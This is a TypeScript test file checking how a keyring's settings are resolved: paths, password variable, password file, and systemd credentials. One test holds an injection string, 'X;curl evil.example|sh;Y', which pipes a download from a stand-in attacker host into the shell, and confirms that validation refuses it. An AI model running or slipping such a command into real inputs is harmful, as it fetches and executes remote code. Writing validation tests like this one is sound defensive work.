import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import type { Spec } from '../../../src/core/keyring-spec.ts';
import { pinFile, settleFile, unpinFile } from '../../../src/keyring/file/settings.ts';
import { environmentChoices, resolveKeyringSettings } from '../../../src/keyring/settings.ts';
import { temporaryDirectory } from '../../support/temporary.ts';
import { expectError, thrownBy } from './rejection.ts';

const home = '/home/somebody';
const working = '/srv/project';

const hostWith = (env: Record<string, string>) => ({
  env,
  platform: 'linux' as const,
  homeDirectory: home,
  userId: 1000,
  workingDirectory: () => working,
});

/** What is settled by the environment, then by what atmos.yaml says. */
function settle(env: Record<string, string> = {}, spec: Spec = {}) {
  const { spec: said } = resolveKeyringSettings([environmentChoices({ env }), { spec }]);
  return settleFile(said, hostWith(env));
}

const inYaml = (value: string) => ({ value, source: 'atmos.yaml:3:5' });
const directoryOf = (path: string) => settle({ ATMOS_KEYRING_FILE_PATH: path }).directory.value;

test('nothing said: the defaults of Atmos', () => {
  expect(settle()).toEqual({
    directory: { value: `${home}/.local/share/atmos/keyring`, source: 'default' },
    passwordEnv: { value: 'ATMOS_KEYRING_PASSWORD', source: 'default' },
  });
});

test('the environment wins over atmos.yaml, and both over the default', () => {
  const configured = {
    path: inYaml('/configured'),
    password_env: inYaml('CONFIGURED'),
    password_file: inYaml('/run/configured'),
    password_command: inYaml('pass show keyring'),
    auto_unlock: { value: 3600, source: 'atmos.yaml:3:5' },
  };
  expect(settle({}, configured)).toEqual({
    directory: inYaml('/configured'),
    passwordEnv: inYaml('CONFIGURED'),
    passwordFile: inYaml('/run/configured'),
    passwordCommand: inYaml('pass show keyring'),
    autoUnlockMs: { value: 3_600_000, source: 'atmos.yaml:3:5' },
  });
  const env = {
    ATMOS_KEYRING_FILE_PATH: '/from/env',
    ATMOS_KEYRING_PASSWORD_ENV: 'FROM_ENV',
    ATMOS_KEYRING_PASSWORD_FILE: '/run/from-env',
  };
  expect(settle(env, configured)).toMatchObject({
    directory: { value: '/from/env', source: 'ATMOS_KEYRING_FILE_PATH' },
    passwordEnv: { value: 'FROM_ENV', source: 'ATMOS_KEYRING_PASSWORD_ENV' },
    passwordFile: { value: '/run/from-env', source: 'ATMOS_KEYRING_PASSWORD_FILE' },
    passwordCommand: inYaml('pass show keyring'),
  });
});

test.each(['keys', 'keys.d/', '~/ring', '~/keyring/keys.json'])(
  'what is pinned of the path %s means the same with another home and working directory',
  (path) => {
    const settled = settle({}, { path: inYaml(path), password_file: inYaml('password') });
    const elsewhere = { ...hostWith({}), homeDirectory: '/elsewhere', workingDirectory: () => '/' };
    const pinned = JSON.parse(JSON.stringify(pinFile(settled)));
    expect(settleFile(unpinFile(pinned), elsewhere)).toEqual(settled);
  },
);

test('an empty variable counts as not set', () => {
  const env = {
    ATMOS_KEYRING_FILE_PATH: '',
    ATMOS_KEYRING_PASSWORD_ENV: '',
    ATMOS_KEYRING_PASSWORD_FILE: '',
  };
  expect(settle(env)).toEqual(settle());
});

describe('the directory', () => {
  test.each([
    ['/srv/keyring', '/srv/keyring'],
    ['keys', `${working}/keys`],
    ['../keys', '/srv/keys'],
    ['~/keys', `${home}/keys`],
    ['~/.atmos-keyring', `${home}/.atmos-keyring`],
    ['~/.atmos.keyring', `${home}/.atmos.keyring`],
    ['~other/keys', `${working}/~other/keys`],
    ['/srv/a.b/keyring', '/srv/a.b/keyring'],
    ['/srv/keyring/', '/srv/keyring'],
    ['.keys', `${working}/.keys`],
    ['.keys/', `${working}/.keys`],
    ['keys.d/', `${working}/keys.d`],
    ['~/keyring.json/', `${home}/keyring.json`],
  ])('%s is %s', (path, directory) => {
    expect(directoryOf(path)).toBe(directory);
  });

  test.each([
    ['/srv/keyring/keys.json', '/srv/keyring'],
    ['~/keyring/keys.json', `${home}/keyring`],
    ['store/keys.', `${working}/store`],
  ])('%s names a file in %s, as in Atmos', (path, directory) => {
    expect(directoryOf(path)).toBe(directory);
  });

  test.each([
    ['~/keyring.json', home],
    ['keyring.json', working],
    ['/keyring.json', '/'],
  ])('%s would make %s the keyring, and is refused', (path, parent) => {
    expectError(
      thrownBy(() => directoryOf(path)),
      'ERR_KEYRING_IO',
      `the keyring path ${path} (from ATMOS_KEYRING_FILE_PATH) names a file, so its directory ${parent} would become the keyring`,
      'name a directory of its own, without an extension: ~/.local/share/atmos/keyring',
    );
  });

  test.each([
    [{ XDG_DATA_HOME: '/xdg' }, '/xdg/atmos/keyring'],
    [{ XDG_DATA_HOME: '/xdg', ATMOS_XDG_DATA_HOME: '/ours' }, '/ours/atmos/keyring'],
    [{ XDG_DATA_HOME: 'relative' }, `${home}/.local/share/atmos/keyring`],
  ])('by default with %j is %s', (env, directory) => {
    expect(settle(env).directory.value).toBe(directory);
  });
});

describe('the password file', () => {
  test.each([
    ['~/password', `${home}/password`],
    ['secrets/password.txt', `${working}/secrets/password.txt`],
  ])('%s is %s', (path, file) => {
    expect(settle({ ATMOS_KEYRING_PASSWORD_FILE: path }).passwordFile?.value).toBe(file);
  });

  test('is what systemd provides, if it does and nothing else is said', () => {
    const directory = temporaryDirectory();
    const env = { CREDENTIALS_DIRECTORY: directory };
    expect(settle(env).passwordFile).toBeUndefined();
    writeFileSync(join(directory, 'atmos-keyring-password'), 'secret');
    expect(settle(env).passwordFile).toEqual({
      value: join(directory, 'atmos-keyring-password'),
      source: 'CREDENTIALS_DIRECTORY',
    });
    expect(settle(env, { password_file: inYaml('/run/configured') }).passwordFile?.value).toBe(
      '/run/configured',
    );
  });
});

describe('a password variable that no variable can be called', () => {
  const evil = 'X;curl evil.example|sh;Y';

  test.each([
    [
      'from the environment',
      { ATMOS_KEYRING_PASSWORD_ENV: evil },
      {},
      `"${evil}" (from ATMOS_KEYRING_PASSWORD_ENV)`,
    ],
    ['from a file', {}, { password_env: inYaml(evil) }, `"${evil}" (from atmos.yaml:3:5)`],
    [
      'from a tag',
      {},
      { password_env: { ...inYaml(evil), tag: '!env WHICH' } },
      '<value of !env WHICH> (from atmos.yaml:3:5)',
    ],
  ] as const)('%s is refused', (_, env, configured, named) => {
    expect(() => settle(env, configured)).toThrow(
      expect.objectContaining({
        code: 'ERR_CONFIG_INVALID',
        message: `the password variable ${named} is not a name for an environment variable`,
        hints: ['use letters, digits and _, and do not start with a digit'],
      }),
    );
  });
});
